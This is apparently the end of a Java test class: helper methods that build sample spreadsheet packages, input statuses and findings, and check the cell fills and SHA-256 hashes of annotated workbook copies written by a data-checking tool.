    // --------------------------------------------------------------------------------------------- helpers

    /**
     * The parts of the IKU sample written to {@code target}, each as {@code part} makes it of its name and bytes;
     * the package is left open for more parts.
     */
    private static ZipOutputStream ikuParts(Path target, java.util.function.BiFunction<String, byte[], byte[]> part)
            throws IOException {
        ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(target));
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(SAMPLES.resolve(IKU)))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null;) {
                zip.putNextEntry(new ZipEntry(e.getName()));
                zip.write(part.apply(e.getName(), in.readAllBytes()));
            }
        }
        return zip;
    }

    /** Writes the copies of {@code run} into {@code temp/out} as a run does: keeping what the last run made. */
    private Map<String, AnnotatedCopy> writeKept(RunResult run) throws IOException {
        KeptCopies kept = KeptCopies.in(temp.resolve("out"));
        try (AtomicOutput output = new AtomicOutput(temp.resolve("out"))) {
            Map<String, AnnotatedCopy> copies = new AnnotatedCopies(indonesian, "test", 2).write(run, output, kept);
            output.commit();
            kept.save();
            return copies;
        }
    }

    /** Writes the copies of {@code run} into {@code temp/out} and commits them. */
    private Map<String, AnnotatedCopy> write(RunResult run) throws IOException {
        try (AtomicOutput output = new AtomicOutput(temp.resolve("out"))) {
            Map<String, AnnotatedCopy> copies = new AnnotatedCopies(indonesian, "test", 2).write(run, output,
                    KeptCopies.in(temp.resolve("out")));
            output.commit();
            return copies;
        }
    }

    private Path out(AnnotatedCopy copy) {
        return temp.resolve("out").resolve(copy.path());
    }

    private static RunResult result(List<InputStatus> inputs, List<Finding> findings) {
        return new RunResult(inputs, List.of(), List.of(), List.of(), findings);
    }

    private static InputStatus sample(String name) throws IOException {
        return new InputStatus(name, SAMPLES.resolve(name), sha256(SAMPLES.resolve(name)), true, 1);
    }

    private static InputStatus readable(String name, Path file) throws IOException {
        return new InputStatus(name, file, sha256(file), true, 1);
    }

    /** A readable input whose reading found no text that could run as a formula. */
    private static InputStatus clean(String name, Path file) throws IOException {
        return new InputStatus(name, file, sha256(file), true, 1, false);
    }

    /** A finding at the cell with the message of G14 of the IKU sample, whatever the cell. */
    private static Finding finding(String file, String sheet, int row, int column, Severity severity) {
        return new Finding(new Location(file, sheet, row, column), Category.PREDICATE_MISMATCH, "predicate.scale",
                severity, Message.of("predicate.capaian", "Baik", "G14",
                        Message.of("figure.stated", new BigDecimal("100")), "Sangat Baik", "≥ 100",
                        "capaian-kab-muara-enim"), "Baik", "Sangat Baik");
    }

    private static Workbook open(Path file) throws IOException {
        return WorkbookFactory.create(file.toFile(), null, true);
    }

    private static Cell cell(Sheet sheet, String ref) {
        CellReference reference = new CellReference(ref);
        return sheet.getRow(reference.getRow()).getCell(reference.getCol());
    }

    /** The ARGB hex of a solid-filled xlsx cell. */
    private static String fill(Cell cell) {
        XSSFCellStyle style = (XSSFCellStyle) cell.getCellStyle();
        assertThat(style.getFillPattern()).isEqualTo(FillPatternType.SOLID_FOREGROUND);
        return style.getFillForegroundXSSFColor().getARGBHex();
    }

    private static String sha256(Path file) throws IOException {
        try (InputStream in = Files.newInputStream(file)) {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(in.readAllBytes()));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
